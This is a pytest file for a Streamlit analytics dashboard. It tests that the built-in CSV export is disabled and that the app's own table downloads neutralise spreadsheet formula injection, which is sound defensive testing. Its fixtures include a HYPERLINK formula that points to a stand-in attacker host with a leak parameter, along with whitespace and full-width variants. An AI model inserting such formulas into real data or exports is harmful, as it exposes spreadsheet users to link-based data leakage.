"""Table downloads: the toolbar's raw CSV export is off, and every table has our own
"Download CSV", whose cells a spreadsheet would run as formulas are neutralised."""

from __future__ import annotations

import csv
import io
import tomllib
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
import streamlit as st

from dashboard_app.downloads import to_csv_bytes
from dashboard_app.tables import breakdown_frame, rounded
from shared.core.records import Event
from shared.ingest.events import write_events
from shared.rollups.mark import mark_dirty_range
from shared.stats.results import Breakdown, Metrics, Row
from tests.dashboard.conftest import DOMAIN, Seeded, app_as, no_exception, utcnow
from tests.dashboard.test_pages import PAGES

ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("https://evil.example/?leak=1","Click for details")'


def test_toolbar_export_is_disabled_for_the_app() -> None:
    """Streamlit reads .streamlit/config.toml next to the app script wherever it starts."""
    config = tomllib.loads((ROOT / "dashboard_app" / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True


def _rows_of(payload: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(payload.decode("utf-8"))))


def test_our_table_csv_neutralises_a_hyperlink_formula() -> None:
    """A breakdown row whose value is a formula, as the tables build and download it."""
    metrics = Metrics(visitors=3, visits=3, pageviews=4, bounce_rate=50.0,
                      visit_duration=12.5)
    values = [HYPERLINK, "-2+3", "\tcmd", " " + HYPERLINK, "\n" + HYPERLINK,
              "\uff1d" + HYPERLINK[1:], "\uff0b1", "\uff0d1", "\uff20SUM(A1)"]
    rows = [Row(value=v, metrics=metrics) for v in [*values, "Google"]]
    df = rounded(breakdown_frame(Breakdown(dimension="source", rows=rows, has_more=False),
                                 "Source"))
    header, *body = _rows_of(to_csv_bytes(df))
    assert header[0] == "Source"
    assert [r[0] for r in body] == ["'" + v for v in values] + ["Google"]
    assert [r[1] for r in body] == ["3"] * len(rows)  # numbers stay numbers


class _Downloads:
    """Records every st.download_button of a run (label, file name, bytes)."""

    def __init__(self) -> None:
        self.seen: list[tuple[str, str, bytes]] = []
        self._original = st.download_button

    def __call__(self, label: str, data: Any, file_name: str | None = None,
                 *args: Any, **kwargs: Any) -> Any:
        payload = data.encode() if isinstance(data, str) else bytes(data)
        self.seen.append((label, file_name or "", payload))
        return self._original(label, data, file_name, *args, **kwargs)

    def file(self, name: str) -> bytes:
        return next(data for _, file_name, data in self.seen if file_name == name)


@pytest.fixture
def downloads(monkeypatch: pytest.MonkeyPatch) -> _Downloads:
    recorder = _Downloads()
    monkeypatch.setattr(st, "download_button", recorder)
    return recorder


@pytest.mark.parametrize("hostile", [HYPERLINK, " " + HYPERLINK, "\uff1d" + HYPERLINK[1:]],
                         ids=["ascii", "space", "full-width"])
def test_dashboard_download_of_a_hostile_source_is_neutralised(
        seeded: Seeded, downloads: _Downloads, hostile: str) -> None:
    now = utcnow()
    events = [Event(site_id=seeded.site.id, ts=now - timedelta(hours=1, minutes=i),
                    name="pageview", hostname=DOMAIN, pathname="/landing",
                    uid=9_100_000 + i, visitor_id=8_100_000 + i, session_id=7_100_000 + i,
                    referrer="https://evil.example/", referrer_source=hostile,
                    channel="Referral", country="DE", browser="Chrome", os="Linux",
                    device="Desktop").to_row() for i in range(5)]
    with seeded.engine.begin() as conn:
        write_events(conn, events)
        mark_dirty_range(conn, seeded.site.id, seeded.site.timezone, now - timedelta(hours=2),
                         now, now)
    at = app_as("admin@example.com", site=DOMAIN, f=f"source|is|{hostile}")
    at.session_state["details_sources"] = True    # the full table under "Details"
    no_exception(at.run())
    assert hostile in at.dataframe[0].value["Source"].tolist()  # shown as text
    header, *body = _rows_of(downloads.file("sources.csv"))
    assert header[0] == "Source" and [r[0] for r in body] == ["'" + hostile]


@pytest.mark.parametrize("email", ["owner@example.com", "viewer@example.com"])
def test_every_table_has_our_download(seeded: Seeded, downloads: _Downloads,
                                      email: str) -> None:
    at = no_exception(app_as(email, site=DOMAIN).run())
    for page in PAGES:
        downloads.seen.clear()
        at.switch_page(page).run()
        no_exception(at)
        csv_downloads = [d for d in downloads.seen if d[1].endswith(".csv")]
        if page == "views/export.py":
            # Exports are handed out by the guard to the signed-in user's browser only,
            # never as a Streamlit /media/ download (docs/access-and-files.md).
            assert csv_downloads == []
            continue
        assert len(csv_downloads) >= len(at.dataframe), (page, len(at.dataframe))
